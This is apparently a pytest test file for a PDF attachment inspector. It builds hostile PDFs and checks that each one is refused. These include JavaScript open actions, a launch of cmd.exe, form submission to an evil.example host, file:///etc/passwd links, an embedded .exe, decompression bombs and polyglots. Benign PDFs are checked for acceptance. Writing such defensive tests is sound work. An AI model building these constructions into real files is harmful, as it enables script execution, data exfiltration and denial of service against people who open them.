"""PDF files as attackers write them, each made here, and good ones beside them."""

from __future__ import annotations

import base64
import io
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
import typst
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image

from wsis_consultation.attachments.inspection import PDF, Rejection, inspect


def _js() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _document() -> Pdf:
    pdf = Pdf.new()
    pdf.add_blank_page()
    return pdf


def _saved(pdf: Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)  # type: ignore[arg-type]  # options of pikepdf
    return out.getvalue()


def _with(change: Callable[[Pdf], object], **options: object) -> bytes:
    pdf = _document()
    change(pdf)
    return _saved(pdf, **options)


def _annotated(**annotation: object) -> bytes:
    def change(pdf: Pdf) -> None:
        found = Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **annotation)
        pdf.pages[0].Annots = Array([pdf.make_indirect(found)])

    return _with(change)


def _raw(*objects: bytes, header: bytes = b"%PDF-1.7\n") -> bytes:
    """A PDF written by hand: objects 1 (the catalog), 2, ... and a table of their places."""
    out, places = bytearray(header), []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out)


def _by_hand(catalog: bytes = b"", page: bytes = b"", *more: bytes, header: bytes = b"%PDF-1.7\n") -> bytes:
    return _raw(
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] %s >>" % page,
        *more,
        header=header,
    )


def _stream(content: bytes, entries: bytes) -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), entries, content)


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("run.js", "alert(1)")
    return out.getvalue()


def _updated() -> bytes:
    """A harmless file, and behind its end an update of its catalog."""
    first = _by_hand()
    start = len(first)
    update = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (x) >> >>\nendobj\n"
    table = b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
    return first + update + table % (start, first.index(b"xref\n"), start + len(update))


def _embedded(pdf: Pdf) -> None:
    pdf.attachments["invoice.exe"] = b"MZ"


ZEROS = b"\0" * 150_000_000
BOMB = zlib.compress(ZEROS, 9)

HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "script at opening": ("scripts", lambda: _with(lambda pdf: pdf.Root.update({"/OpenAction": _js()}))),
    "script in the name tree": (
        "scripts",
        lambda: _with(lambda pdf: pdf.Root.update({"/Names": Dictionary(JavaScript=Dictionary(Names=["a", _js()]))})),
    ),
    "script in an object stream": (
        "scripts",
        lambda: _with(
            lambda pdf: pdf.Root.update({"/OpenAction": pdf.make_indirect(_js())}),
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
        ),
    ),
    "script of a page": ("scripts", lambda: _with(lambda pdf: pdf.pages[0].obj.update({"/AA": Dictionary(O=_js())}))),
    "script of a link": ("scripts", lambda: _annotated(Subtype=Name.Link, A=_js())),
    "script after another action": (
        "scripts",
        lambda: _annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI="https://itu.int", Next=Array([_js()]))),
    ),
    "script under an escaped name": ("scripts", lambda: _by_hand(b"/OpenAction << /S /J#61vaScript /#4aS (x) >>")),
    "script whose parts are behind references": (
        "scripts",
        lambda: _by_hand(b"/OpenAction 4 0 R", b"", b"<< /S 5 0 R >>", b"/JavaScript"),
    ),
    "script in an update": ("scripts", lambda: _updated()),
    "form that is a program": (
        "scripts",
        lambda: _with(lambda pdf: pdf.Root.update({"/AcroForm": Dictionary(XFA=pdf.make_stream(b"<xdp/>"))})),
    ),
    "program that is started": (
        "external",
        lambda: _annotated(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe"))),
    ),
    "document from a file server": (
        "external",
        lambda: _annotated(Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String(r"\\\\host\\share"), D=[0])),
    ),
    "form that is sent": (
        "external",
        lambda: _annotated(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example"))),
    ),
    "data that are imported": (
        "external",
        lambda: _annotated(Subtype=Name.Link, A=Dictionary(S=Name.ImportData, F=String("x.fdf"))),
    ),
    "link that is a script": (
        "external",
        lambda: _annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=" javascript:alert(1)")),
    ),
    "link to a file": (
        "external",
        lambda: _annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI="file:///etc/passwd")),
    ),
    "stream in another file": (
        "external",
        lambda: _by_hand(b"", b"/Contents 4 0 R", _stream(b"", b"/F (http://evil.example/x)")),
    ),
    "page of another file": (
        "external",
        lambda: _by_hand(
            b"", b"", _stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref << /F (x.pdf) /Page 0 >>")
        ),
    ),
    "embedded file": ("embedded", lambda: _with(_embedded)),
    "file in an annotation": ("embedded", lambda: _annotated(Subtype=Name.FileAttachment)),
    "portfolio": ("embedded", lambda: _with(lambda pdf: pdf.Root.update({"/Collection": Dictionary()}))),
    "document in the document": (
        "embedded",
        lambda: _annotated(Subtype=Name.Link, A=Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C))),
    ),
    "rich media": ("media", lambda: _annotated(Subtype=Name.RichMedia)),
    "film": ("media", lambda: _annotated(Subtype=Name.Screen, A=Dictionary(S=Name.Rendition))),
    "three dimensions": ("media", lambda: _annotated(Subtype=Name("/3D"))),
    "password": ("encrypted", lambda: _saved(_document(), encryption=pikepdf.Encryption(user="u", owner="o"))),
    "password of the owner alone": (
        "encrypted",
        lambda: _saved(_document(), encryption=pikepdf.Encryption(user="", owner="o")),
    ),
    "bomb": ("expands", lambda: _by_hand(b"", b"/Contents 4 0 R", _stream(BOMB, b"/Filter /FlateDecode"))),
    "bomb in a bomb": (
        "expands",
        lambda: _by_hand(
            b"", b"/Contents 4 0 R", _stream(zlib.compress(BOMB, 9), b"/Filter [/FlateDecode /FlateDecode]")
        ),
    ),
    "many bombs": (
        "expands",
        lambda: _by_hand(b"", b"", *[_stream(zlib.compress(ZEROS[:30_000_000], 9), b"/Filter /FlateDecode")] * 4),
    ),
    "image of billions of pixels": (
        "expands",
        lambda: _by_hand(
            b"", b"", _stream(b"\0" * 9, b"/Subtype /Image /Width 90000 /Height 90000 /Filter /CCITTFaxDecode")
        ),
    ),
    "archive behind the end": ("polyglot", lambda: _saved(_document()) + _zip()),
    "archive in a comment": ("polyglot", lambda: _by_hand(b"", b"", b"% " + _zip() + b"\nnull")),
    "bytes before the beginning": ("polyglot", lambda: b"GIF89a" + _saved(_document())),
    "page of the web in the header": ("polyglot", lambda: _by_hand(header=b"%PDF-1.7\n%<script>alert(1)</script>\n")),
    "cut": ("damaged", lambda: _saved(_document())[:-200]),
    "without objects": ("damaged", lambda: b"%PDF-1.7\n%%EOF\n"),
    "table of wrong places": ("damaged", lambda: _by_hand().replace(b"startxref\n", b"startxref\n9")),
    "without pages": (
        "damaged",
        lambda: _raw(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"),
    ),
}


def _typeset() -> bytes:
    source = '#set document(title: [Input])\n= Contribution\n#link("https://itu.int")[link] #lorem(900)'
    return bytes(typst.compile(source.encode()))


def _photograph() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (90, 60), "navy").save(out, "JPEG")
    return out.getvalue()


GOOD: dict[str, Callable[[], bytes]] = {
    "blank": lambda: _saved(_document()),
    "by hand": _by_hand,
    "typeset": _typeset,
    "with object streams": lambda: _saved(
        Pdf.open(io.BytesIO(_typeset())), object_stream_mode=pikepdf.ObjectStreamMode.generate
    ),
    "linearized": lambda: _saved(Pdf.open(io.BytesIO(_typeset())), linearize=True),
    "with links": lambda: _annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI="https://www.itu.int/wsis")),
    "with a form": lambda: _with(lambda pdf: pdf.Root.update({"/AcroForm": Dictionary(Fields=[])})),
    "with streams of older filters": lambda: _by_hand(
        b"",
        b"/Contents 4 0 R",
        _stream(base64.a85encode(b"\x040 0 m\n\x80") + b"~>", b"/Filter [/ASCII85Decode /RunLengthDecode]"),
    ),
    "with a photograph": lambda: _by_hand(
        b"",
        b"",
        _stream(
            _photograph(),
            b"/Subtype /Image /Width 90 /Height 60 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode",
        ),
    ),
    "that opens at a page": lambda: _with(
        lambda pdf: pdf.Root.update({"/OpenAction": Array([pdf.pages[0].obj, Name.Fit])})
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_file_is_refused_with_its_reason(name: str, tmp_path: Path) -> None:
    reason, make = HOSTILE[name]
    file = tmp_path / "input.pdf"
    file.write_bytes(make())
    with pytest.raises(Rejection) as refused:
        inspect(file, PDF)
    assert str(refused.value) == reason


@pytest.mark.parametrize("name", GOOD)
def test_good_file_is_accepted(name: str, tmp_path: Path) -> None:
    file = tmp_path / "input.pdf"
    file.write_bytes(GOOD[name]())
    inspect(file, PDF)
